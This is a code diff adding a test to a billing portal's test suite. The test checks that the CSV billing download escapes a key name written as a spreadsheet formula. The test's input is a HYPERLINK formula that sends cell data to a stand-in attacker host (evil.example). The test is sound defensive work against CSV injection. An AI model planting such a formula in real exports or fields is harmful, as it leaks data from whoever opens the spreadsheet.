@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from typing import Any
 
+from propdata.accounts.keys import CustomLimits
 from propdata.plans import PLANS
 from tests.portal.conftest import Person, new_key_of, other
 
@@ -283,3 +286,19 @@ async def test_billing_shows_each_keys_plan_days_and_their_cost(person: Person) 
     await person.submit("/dashboard", "/logout")
     away = await person.client.get("/dashboard/billing", follow_redirects=False)
     assert away.status_code == 303 and away.headers["location"] == "/login"
+
+
+async def test_the_billing_csv_writes_a_formula_like_key_name_as_text(person: Person) -> None:
+    """A key's name is the account holder's text: in the download it never runs as a
+    formula in the spreadsheet that opens it; numbers stay numbers."""
+    await signed_up(person, "cy@example.com")
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    await person.accounts().create_key_for("cy@example.com", "pro", name, CustomLimits(), "ops")
+    person.clock.advance(86_400)  # the test clock's January 15 to 16
+    download = await person.client.get("/dashboard/billing.csv")
+    rows = list(csv.reader(io.StringIO(download.text, newline="")))
+    assert rows[0] == ["keyId", "name", "month", "plan", "days", "priceUsdPerMonth", "costUsd"]
+    (hostile,) = [row for row in rows if row[3] == "pro"]
+    assert hostile[1] == "'" + name
+    assert hostile[4:] == ["1.000", "199", f"{199 / 31:.2f}"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
